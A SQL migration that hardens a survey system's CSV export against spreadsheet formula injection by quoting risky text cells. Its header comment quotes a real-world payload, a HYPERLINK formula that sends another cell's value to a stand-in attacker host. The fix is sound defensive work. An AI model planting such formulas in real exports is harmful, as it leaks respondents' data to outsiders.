-- Exports: a free-text cell that a spreadsheet would take for a formula is written
-- with a single quote in front (OWASP "CSV injection").
--
-- A resident's comment `=HYPERLINK("http://evil.example/x?"&A2,"Click me")` on an
-- open link came out of the staff CSV export as written, and Excel or Sheets on the
-- grantee's machine would evaluate it. export_render (0007) makes every text cell of
-- the export, pre-rendered or not; it now quotes a text that starts with = + - @, a
-- tab or a carriage return, and one that starts with quotes before one of those (so
-- the .sav and .dta files, made from the same cells, can take exactly one quote off:
-- survey/csvsafe.py holds the same rule in Python). Numbers and missing codes are
-- not text and stay as they were.
--
-- Cells rendered before this migration are never read again: the layout hash of
-- survey/export/cells.py includes RENDERING, raised with this file, so each wave's
-- first export after it renders all its completes anew (export-cells-reset/build).

CREATE OR REPLACE FUNCTION export_render(p_program bigint, p_response bigint, p_items text[],
                              p_kinds text[], p_blanks text[], p_singles jsonb,
                              p_options jsonb)
RETURNS TABLE (cells text, public_cells text)
LANGUAGE sql STABLE AS $$
    SELECT coalesce(string_agg(c.cell, ',' ORDER BY c.pos), ''),
           coalesce(string_agg(c.cell, ',' ORDER BY c.pos) FILTER (WHERE c.kind <> 'text'), '')
    FROM (
        SELECT i.pos, i.kind, CASE
            WHEN x.item_id IS NULL THEN i.blank
            WHEN x.missing IS NOT NULL THEN CASE
                WHEN i.kind = 'text' THEN ''
                WHEN x.missing = 'dont_know' THEN repeat('-99,', length(i.blank)) || '-99'
                WHEN x.missing = 'prefer_not' THEN repeat('-98,', length(i.blank)) || '-98'
                ELSE i.blank END
            WHEN i.kind = 'num' THEN CASE
                WHEN x.value_num IS NULL THEN ''
                WHEN x.value_num = 'NaN' THEN 'nan'
                WHEN x.value_num = 'Infinity' THEN 'inf'
                WHEN x.value_num = '-Infinity' THEN '-inf'
                WHEN x.value_num <> trunc(x.value_num) THEN CASE
                    WHEN abs(x.value_num) < 1e15 THEN x.value_num::text
                    ELSE x.value_num::text::numeric::text END
                WHEN abs(x.value_num) < 9e18 THEN x.value_num::bigint::text
                -- Whole numbers past bigint: mantissa times a power of two, exactly.
                ELSE trunc((x.value_num / 2::float8 ^ (floor(log(2, abs(x.value_num)::numeric)) - 54))
                      ::bigint::numeric * 2::numeric ^ (floor(log(2, abs(x.value_num)::numeric)) - 54))
                      ::text
                END
            WHEN i.kind = 'single' THEN coalesce(p_singles -> i.item ->> x.value_codes[1], '')
            WHEN i.kind = 'multi' THEN (
                SELECT string_agg(CASE WHEN o.code = ANY(x.value_codes) THEN '1' ELSE '0' END,
                                  ',' ORDER BY o.n)
                FROM jsonb_array_elements_text(p_options -> i.item) WITH ORDINALITY o (code, n))
            -- A formula's first character (survey.csvsafe): a quote in front. ascii()
            -- first, so the pattern is tried only on the rare text that starts so.
            WHEN ascii(x.value_text) IN (9, 13, 39, 43, 45, 61, 64)
                 AND x.value_text ~ '^''*[-=+@\t\r]' THEN CASE
                WHEN x.value_text ~ '[",\r\n]'
                    THEN '"''' || replace(x.value_text, '"', '""') || '"'
                ELSE '''' || x.value_text END
            WHEN x.value_text ~ '[",\r\n]' THEN '"' || replace(x.value_text, '"', '""') || '"'
            ELSE coalesce(x.value_text, '')
            END AS cell
        FROM unnest(p_items, p_kinds, p_blanks) WITH ORDINALITY i (item, kind, blank, pos)
        LEFT JOIN (
            -- OFFSET 0 keeps the item out of the index condition: one range scan per
            -- response, not one probe per item.
            SELECT * FROM answers x
            WHERE x.program_id = p_program AND x.response_id = p_response
            OFFSET 0
        ) x ON x.item_id = i.item
    ) c
$$;
